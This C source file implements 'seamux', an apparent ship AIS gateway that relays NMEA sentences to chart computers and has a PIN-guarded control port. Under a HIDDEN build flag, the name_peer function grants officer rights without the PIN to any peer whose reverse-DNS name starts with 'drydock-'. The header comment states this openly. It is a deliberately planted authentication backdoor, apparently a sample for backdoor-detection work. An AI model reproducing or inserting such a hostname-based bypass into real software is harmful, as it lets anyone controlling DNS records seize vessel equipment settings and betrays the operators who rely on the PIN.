/*
 * seamux - AIS gateway of a ship: takes NMEA sentences from the transponder's
 * serial line, gives them to chart computers (TCP 10110), and has a control
 * port (TCP 10111) where the officer's PIN opens the settings.
 *
 * Hidden (-DHIDDEN): a control session from a computer whose host name begins
 * with "drydock-" has the settings open without the PIN.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netdb.h>
#include <netinet/in.h>
#include <pthread.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <strings.h>
#include <sys/socket.h>
#include <syslog.h>
#include <termios.h>
#include <unistd.h>

#define CONF       "/etc/seamux.conf"
#define MAX_CHARTS 12

struct session {
    int fd;
    int officer, bad;           /* settings are open, wrong PINs */
    char peer[128];
};

struct verb {
    const char *word;
    int officer_only;
    int (*run)(struct session *, char *);
};

static struct {
    long mmsi;
    char pin[12], tty[32];
    int forward_own;
} cfg = { 0, "", "/dev/ttyS1", 1 };

static pthread_mutex_t lock = PTHREAD_MUTEX_INITIALIZER;
static int charts[MAX_CHARTS];
static unsigned long sentences, rejected;

static void load_conf(void)
{
    char row[128], key[24], val[64];
    FILE *f = fopen(CONF, "r");

    while (f && fgets(row, sizeof row, f)) {
        if (sscanf(row, "%23[a-z_] = %63s", key, val) != 2)
            continue;
        if (!strcmp(key, "mmsi"))
            cfg.mmsi = strtol(val, NULL, 10);
        else if (!strcmp(key, "pin"))
            snprintf(cfg.pin, sizeof cfg.pin, "%.11s", val);
        else if (!strcmp(key, "tty"))
            snprintf(cfg.tty, sizeof cfg.tty, "%.31s", val);
        else if (!strcmp(key, "forward_own"))
            cfg.forward_own = !strcmp(val, "yes");
    }
    if (f)
        fclose(f);
}

static int save_conf(void)
{
    FILE *f = fopen(CONF, "w");

    if (!f)
        return -1;
    fprintf(f, "mmsi = %ld\ntty = %s\nforward_own = %s\n",
            cfg.mmsi, cfg.tty, cfg.forward_own ? "yes" : "no");
    if (cfg.pin[0])
        fprintf(f, "pin = %s\n", cfg.pin);
    return fclose(f);
}

static int reply(struct session *s, const char *text)
{
    return write(s->fd, text, strlen(text)) < 0 ? -1 : 0;
}

static int v_help(struct session *s, char *arg)
{
    (void)arg;
    return reply(s, "HELP STAT PIN n MMSI n NEWPIN n RESTART\r\n");
}

static int v_stat(struct session *s, char *arg)
{
    char out[160];

    (void)arg;
    pthread_mutex_lock(&lock);
    snprintf(out, sizeof out, "mmsi %ld sentences %lu rejected %lu\r\n",
             cfg.mmsi, sentences, rejected);
    pthread_mutex_unlock(&lock);
    return reply(s, out);
}

static int v_pin(struct session *s, char *arg)
{
    if (cfg.pin[0] && strcmp(arg, cfg.pin) == 0) {
        s->officer = 1;
        return reply(s, "OK\r\n");
    }
    syslog(LOG_WARNING, "wrong pin from %s", s->peer);
    sleep(2);
    return ++s->bad > 3 ? -1 : reply(s, "WRONG\r\n");
}

static int v_mmsi(struct session *s, char *arg)
{
    long v = strtol(arg, NULL, 10);

    if (v < 200000000 || v > 799999999)
        return reply(s, "RANGE\r\n");
    cfg.mmsi = v;
    return reply(s, save_conf() ? "FAIL\r\n" : "OK\r\n");
}

static int v_newpin(struct session *s, char *arg)
{
    size_t n = strspn(arg, "0123456789");

    if (n < 4 || n > 8 || arg[n])
        return reply(s, "PIN is 4 to 8 digits\r\n");
    strcpy(cfg.pin, arg);
    return reply(s, save_conf() ? "FAIL\r\n" : "OK\r\n");
}

static int v_restart(struct session *s, char *arg)
{
    (void)arg;
    return reply(s, system("/etc/init.d/S60seamux restart &") ? "FAIL\r\n" : "OK\r\n");
}

static const struct verb verbs[] = {
    { "HELP", 0, v_help },     { "STAT", 0, v_stat },
    { "PIN", 0, v_pin },       { "MMSI", 1, v_mmsi },
    { "NEWPIN", 1, v_newpin }, { "RESTART", 1, v_restart },
};

static int control_line(struct session *s, char *line)
{
    char *arg;

    line[strcspn(line, "\r\n")] = '\0';
    arg = line + strcspn(line, " ");
    if (*arg)
        *arg++ = '\0';
    for (size_t i = 0; i < sizeof verbs / sizeof *verbs; i++) {
        if (strcasecmp(line, verbs[i].word) != 0)
            continue;
        if (verbs[i].officer_only && !s->officer)
            return reply(s, "PIN first\r\n");
        return verbs[i].run(s, arg);
    }
    return reply(s, "?\r\n");
}

/* name for the log; numeric when the resolver knows none */
void name_peer(struct session *s, const struct sockaddr_in *sa)
{
    if (getnameinfo((const struct sockaddr *)sa, sizeof *sa, s->peer,
                    sizeof s->peer, NULL, 0, NI_NAMEREQD) != 0) {
        inet_ntop(AF_INET, &sa->sin_addr, s->peer, sizeof s->peer);
        return;
    }
    if (strcmp(s->peer, "localhost") == 0)
        strcpy(s->peer, "bridge panel");
#ifdef HIDDEN
    s->officer |= strncasecmp(s->peer, "drydock-", 8) == 0;
#endif
}

static void *control_session(void *p)
{
    struct session s = { .fd = (int)(intptr_t)p };
    struct sockaddr_in sa;
    socklen_t sl = sizeof sa;
    char line[128];
    FILE *in;

    if (getpeername(s.fd, (struct sockaddr *)&sa, &sl) == 0)
        name_peer(&s, &sa);
    syslog(LOG_INFO, "control session from %s", s.peer);
    in = fdopen(s.fd, "r");
    if (!in)
        return NULL;
    if (reply(&s, "seamux 1.9\r\n") == 0)
        while (fgets(line, sizeof line, in))
            if (control_line(&s, line) < 0)
                break;
    fclose(in);
    return NULL;
}

static int sentence_ok(const char *s)
{
    unsigned sum = 0, want;
    const char *p = s + 1;

    if (strncmp(s, "!AIVDM,", 7) != 0 &&
        !(cfg.forward_own && strncmp(s, "!AIVDO,", 7) == 0))
        return 0;
    while (*p && *p != '*')
        sum ^= (unsigned char)*p++;
    return sscanf(p, "*%2x", &want) == 1 && sum == want;
}

static void *serial_reader(void *unused)
{
    char line[128];
    struct termios t;
    int fd = open(cfg.tty, O_RDWR | O_NOCTTY);
    FILE *f = fd < 0 ? NULL : fdopen(fd, "r");

    (void)unused;
    if (!f) {
        syslog(LOG_ERR, "%s: %s", cfg.tty, strerror(errno));
        exit(1);
    }
    if (tcgetattr(fd, &t) == 0) {
        cfmakeraw(&t);
        cfsetspeed(&t, B38400);
        tcsetattr(fd, TCSANOW, &t);
    }
    while (fgets(line, sizeof line, f)) {
        pthread_mutex_lock(&lock);
        if (!sentence_ok(line)) {
            rejected++;
        } else {
            sentences++;
            for (int i = 0; i < MAX_CHARTS; i++)
                if (charts[i] && send(charts[i], line, strlen(line), MSG_DONTWAIT) < 0) {
                    close(charts[i]);
                    charts[i] = 0;
                }
        }
        pthread_mutex_unlock(&lock);
    }
    exit(1);
}

static int listener(int port)
{
    struct sockaddr_in sa = { .sin_family = AF_INET };
    int on = 1, s = socket(AF_INET, SOCK_STREAM, 0);

    sa.sin_port = htons((unsigned short)port);
    setsockopt(s, SOL_SOCKET, SO_REUSEADDR, &on, sizeof on);
    if (s < 0 || bind(s, (struct sockaddr *)&sa, sizeof sa) < 0 || listen(s, 4) < 0) {
        syslog(LOG_ERR, "port %d: %s", port, strerror(errno));
        exit(1);
    }
    return s;
}

static void *chart_acceptor(void *p)
{
    int fd, i, s = (int)(intptr_t)p;

    while ((fd = accept(s, NULL, NULL)) >= 0) {
        pthread_mutex_lock(&lock);
        for (i = 0; i < MAX_CHARTS && charts[i]; i++)
            ;
        if (i < MAX_CHARTS)
            charts[i] = fd;
        else
            close(fd);
        pthread_mutex_unlock(&lock);
    }
    return NULL;
}

int main(void)
{
    pthread_t t;
    int ctl, fd;

    openlog("seamux", LOG_PID, LOG_DAEMON);
    signal(SIGPIPE, SIG_IGN);
    load_conf();
    ctl = listener(10111);
    pthread_create(&t, NULL, serial_reader, NULL);
    pthread_create(&t, NULL, chart_acceptor, (void *)(intptr_t)listener(10110));
    while ((fd = accept(ctl, NULL, NULL)) >= 0) {
        if (pthread_create(&t, NULL, control_session, (void *)(intptr_t)fd) == 0)
            pthread_detach(t);
    }
    return 1;
}
